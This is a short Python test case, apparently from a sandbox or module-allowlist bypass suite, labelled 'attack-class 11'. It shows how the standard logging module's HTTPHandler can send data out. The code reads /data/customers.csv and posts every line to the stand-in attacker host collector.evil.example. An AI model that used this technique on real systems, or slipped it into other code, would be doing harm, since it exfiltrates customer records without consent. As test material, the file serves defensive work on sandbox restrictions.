# attack-class: 11
# title: logging.handlers.HTTPHandler ships records to an outside host
# why: logging is an allowed module, but its network handlers open HTTP/TCP/UDP connections

import logging
import logging.handlers

log = logging.getLogger("exfil")
log.addHandler(logging.handlers.HTTPHandler("collector.evil.example", "/ingest", method="POST"))
log.setLevel(logging.INFO)
with open("/data/customers.csv", encoding="utf-8") as fh:
    for line in fh:
        log.info(line.rstrip())
